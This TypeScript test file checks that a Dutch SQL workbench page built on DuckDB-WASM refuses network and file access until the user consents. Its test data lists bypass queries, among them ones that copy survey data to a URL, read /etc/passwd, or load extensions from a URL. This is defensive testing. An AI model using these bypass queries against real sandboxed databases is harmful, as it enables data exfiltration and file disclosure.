// No query on /sql reaches the network before the reader consents, however it is spelled: a trap server on
// another loopback address counts every request that arrives, and each bypass form must leave it at zero with a
// clear Dutch refusal. After the two-step consent a remote file is read (the trap server allows it with CORS);
// after "Weer afsluiten" the refusal is back.
import {afterAll, beforeAll, describe, expect, it} from "vitest";
import {createServer, type Server} from "node:http";
import type {Page} from "playwright-core";
import {useBuiltSite, type OpenedPage} from "./harness.js";
import {openWorkbench, typeAndRun, workbenchValue} from "./workbench-page.js";
import {sqlLink} from "../../src/components/sql/link.js";

const site = useBuiltSite({beforeAll, afterAll});

/** A server on 127.0.0.2 that answers every request with a small CSV and remembers it. */
interface Trap {
  host: string;
  requests: string[];
  close(): Promise<void>;
}

async function startTrap(): Promise<Trap> {
  const requests: string[] = [];
  const server: Server = createServer((request, response) => {
    requests.push(`${request.method} ${request.url}`);
    response.writeHead(200, {"content-type": "text/csv", "access-control-allow-origin": "*", "access-control-allow-headers": "*", "access-control-expose-headers": "*"});
    response.end(request.method === "HEAD" ? undefined : "a,b\n1,2\n");
  });
  await new Promise<void>((ok, fail) => server.once("error", fail).listen(0, "127.0.0.2", ok));
  const address = server.address();
  if (!address || typeof address === "string") throw new Error("the trap server has no port");
  return {host: `127.0.0.2:${address.port}`, requests, close: () => new Promise<void>((ok) => server.close(() => ok()))};
}

let trap: Trap;
let opened: OpenedPage;
let page: Page;

beforeAll(async () => {
  trap = await startTrap();
  opened = await openWorkbench(site.browser, site.origin);
  page = opened.page;
});

afterAll(async () => {
  await opened?.page.context().close();
  await trap?.close();
});

/** The refusals of ./src/components/sql/network.ts, by what was refused. */
const refusedUrl = /^Deze query wil “http:\/\/127\.0\.0\.2:\d+\/[^”]*” van internet lezen of daarheen schrijven\. Dat weigert de database zolang bestanden van internet niet aan staan; er is geen verbinding gemaakt\./;
const refusedFile = /^Deze query wil het bestand “[^”]+” lezen of schrijven\. Query’s op deze pagina kunnen niet bij bestanden op je computer/;
const refusedExtension = /^DuckDB-extensies laden kan op deze pagina niet/;
const refusedSetting = /^De instellingen van de database liggen vast/;

describe("/sql before consent: DuckDB refuses every file and URL", () => {
  const bypasses: [string, (host: string) => string[], RegExp][] = [
    ["a URL built with ||", (h) => [`SELECT * FROM read_csv('htt' || 'p://${h}/concat.csv')`], refusedUrl],
    ["an escape string", (h) => [`SELECT * FROM read_csv(E'\\x68ttp://${h}/escape.csv')`], refusedUrl],
    ["dollar quoting", (h) => [`SELECT * FROM read_csv($$http://${h}/dollar.csv$$)`], refusedUrl],
    ["a quoted name", (h) => [`SELECT * FROM "http://${h}/quoted.csv"`], refusedUrl],
    ["a macro", (h) => ["CREATE OR REPLACE MACRO lees(x) AS TABLE SELECT * FROM read_csv(x)", `SELECT * FROM lees('http://${h}/macro.csv')`], refusedUrl],
    ["getvariable", (h) => [`SET VARIABLE adres = 'http://${h}/variable.csv'`, "SELECT * FROM read_csv(getvariable('adres'))"], refusedUrl],
    ["a result in the URL", (h) => [`SET VARIABLE u = (SELECT 'ht' || 'tp://${h}/?n=' || count(*) FROM respondents)`, "SELECT * FROM read_csv(getvariable('u'))"], refusedUrl],
    ["a keyword after a string with --", () => ["SELECT '--'; LOAD httpfs"], refusedExtension],
    ["LOAD from a URL", (h) => [`LOAD 'http://${h}/httpfs.duckdb_extension.wasm'`], refusedExtension],
    ["SET enable_external_access = true", () => ["SET enable_external_access = true"], refusedSetting],
    ["RESET enable_external_access", () => ["RESET enable_external_access"], refusedSetting],
    ["RESET lock_configuration", () => ["RESET lock_configuration"], refusedSetting],
    ["ATTACH", (h) => [`ATTACH 'http://${h}/elders.duckdb' AS elders`], refusedUrl],
    ["COPY ... TO", (h) => [`COPY (SELECT * FROM respondents) TO 'http://${h}/buit.csv'`], refusedUrl],
    ["a local file", () => ["SELECT * FROM read_csv('/etc/passwd')"], refusedFile]
  ];

  it.each(bypasses)("refuses %s, and the trap server hears nothing", async (_, queries, refusal) => {
    let last = await typeAndRun(page, queries(trap.host)[0]);
    for (const sql of queries(trap.host).slice(1)) {
      expect(last.error, `${last.sql} should run`).toBeNull();
      last = await typeAndRun(page, sql);
    }
    expect(last.error).toMatch(refusal);
    expect(last.access).toBe("offline");
    expect(await page.locator(".sql-error strong").textContent()).toBe("De database weigerde de query.");
    expect(await page.locator(".sql-error-explanation").textContent()).toMatch(refusal);
    expect(trap.requests).toEqual([]);
  });

  it("takes INSTALL as a no-op that fetches nothing, and still refuses the LOAD after it", async () => {
    // DuckDB-WASM installs nothing itself (extensions would be fetched at LOAD time), so INSTALL succeeds quietly.
    const install = await typeAndRun(page, `INSTALL httpfs FROM 'http://${trap.host}/repository'`);
    expect(install.error).toBeNull();
    const load = await typeAndRun(page, "LOAD httpfs");
    expect(load.error).toMatch(refusedExtension);
    expect(trap.requests).toEqual([]);
  });

  it("runs a query from a link at once, and the database refuses its URL too", async () => {
    const shared = await openWorkbench(site.browser, site.origin, sqlLink(`SELECT * FROM read_csv('htt' || 'p://${trap.host}/link.csv')`));
    try {
      const value = await workbenchValue(shared.page);
      expect(value.error).toMatch(refusedUrl);
      expect(await shared.page.locator(".sql-network").getAttribute("data-access")).toBe("offline");
      expect(trap.requests).toEqual([]);
      expect(shared.foreignRequests).toEqual([]);
    } finally {
      await shared.page.context().close();
    }
  });

  it("made no request outside the site at all", () => {
    expect(opened.foreignRequests).toEqual([]);
    expect(trap.requests).toEqual([]);
  });
});

describe("/sql after consent", () => {
  it("asks twice, re-opens the database with internet access, reads a remote file, and closes again", async () => {
    const panel = page.locator(".sql-network");
    expect(await panel.textContent()).toContain("Deze pagina maakt geen verbinding buiten de site.");
    await page.getByRole("button", {name: "Bestanden van internet toestaan…"}).click();
    expect(await panel.textContent()).toContain("Bestanden van internet toestaan voor dit bezoek?");
    expect(await page.evaluate(() => document.activeElement?.textContent)).toBe("Ja, toestaan voor dit bezoek");
    expect(trap.requests).toEqual([]);
    await page.getByRole("button", {name: "Ja, toestaan voor dit bezoek"}).click();
    await expect.poll(() => panel.getAttribute("data-access"), {timeout: 90_000}).toBe("remote");
    await expect.poll(() => panel.textContent(), {timeout: 30_000}).toContain("Bestanden van internet staan aan, alleen voor dit bezoek");

    const remote = await typeAndRun(page, `SELECT * FROM read_csv('http://${trap.host}/toegestaan.csv')`);
    expect(remote.error).toBeNull();
    expect(remote.access).toBe("remote");
    expect(remote.rows).toEqual([[1, 2]]);
    expect(trap.requests.some((r) => r.endsWith("/toegestaan.csv"))).toBe(true);
    // The survey tables are there in the second database as well; its settings are locked too.
    expect((await typeAndRun(page, "SELECT count(*) AS n FROM respondents")).rows).toEqual([[107]]);
    expect((await typeAndRun(page, "SET autoinstall_known_extensions = true")).error).toMatch(refusedSetting);

    await page.getByRole("button", {name: "Weer afsluiten"}).click();
    await expect.poll(() => panel.getAttribute("data-access"), {timeout: 30_000}).toBe("offline");
    const heard = trap.requests.length;
    const closed = await typeAndRun(page, `SELECT * FROM read_csv('http://${trap.host}/weer-dicht.csv')`);
    expect(closed.error).toMatch(refusedUrl);
    expect(closed.access).toBe("offline");
    expect(trap.requests.length).toBe(heard);
  });
});
